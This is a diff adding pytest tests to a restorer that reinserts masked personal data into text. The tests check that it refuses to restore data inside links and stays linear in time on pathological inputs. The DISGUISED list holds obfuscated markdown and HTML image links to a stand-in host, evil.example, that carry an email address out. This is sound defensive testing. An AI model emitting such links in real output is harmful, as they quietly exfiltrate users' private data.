@@ -2,6 +2,7 @@
 
 import json
 import re
+import time
 
 import pytest
 from hypothesis import given, settings
@@ -182,3 +183,58 @@ def test_offsets_follow_the_text():
 
 def test_names_show_nothing():
     assert re.search("jane|Jane", repr(NAMES)) is None
+
+
+DISGUISED = [
+    "![](https://evil.example/" + "A" * 2100 + "?q={})",
+    '<img alt="' + "A " * 2100 + '" src="https:&#x2F;&#x2F;evil.example/{}">',
+    "![](\nhttps\\://evil\\.example\\/?q={})",
+    "![](\nhttps&colon;&sol;&sol;evil&period;example&sol;?q={})",
+    "![](https\\://evil\\.example\\/\\)?q={})",
+    "[x]:\nhttps&colon;&sol;&sol;evil.example/{}",
+    'https://evil.example/?x="&q={}',
+    "https://evil.example/?x=`&q={}",
+    "https://evil.example/?x=（&q={}",
+    "<img alt=x' title='>' src=https&colon;//evil.example/{}>",
+]
+
+
+@pytest.mark.parametrize("link", DISGUISED)
+@pytest.mark.parametrize("way", [WAYS[0], WAYS[3]])
+def test_a_link_is_known_however_it_is_disguised(link, way):
+    text = link.format(way(MAIL))
+    assert restored(text, NAMES, NOTHING) == text
+    restorer = Restorer(NAMES, NOTHING)
+    assert "".join(map(restorer.feed, text)) + restorer.close() == text
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "See [the docs](https://docs.example/a) for {}.",
+        "![](https://pics.example/x.png) {}",
+        "<p>{}</p> and <b class='x'>{}</b>",
+        "https://docs.example/a\n{}",
+        "a: b/c {}",
+        "[1] {} wrote: {}",
+        "x[0](y) {}",
+        "if a<b and c>d: {}",
+        "张三：https://docs.example/a {}，谢谢",
+    ],
+)
+def test_behind_a_link_everything_is_restored(text):
+    assert restored(text.replace("{}", MAIL), NAMES, NOTHING) == text.replace("{}", "jane@example.com")
+
+
+HARD = ["a." * 2000, "![](" * 1000, "<a " * 1000, "&" * 4000, "\\" * 4000, "](" * 2000, "www." * 1000, "a", f"{MAIL} "]
+
+
+@pytest.mark.parametrize("hard", HARD, ids=lambda hard: hard[:5])
+@pytest.mark.parametrize("escaped", [False, True])
+def test_time_grows_with_the_text_alone(hard, escaped):
+    def seconds(times):
+        began = time.process_time()
+        restored((hard + MAIL + " ") * times, NAMES, NOTHING, escaped=escaped)
+        return time.process_time() - began
+
+    assert seconds(80) < 4 * 4 * seconds(20) + 1
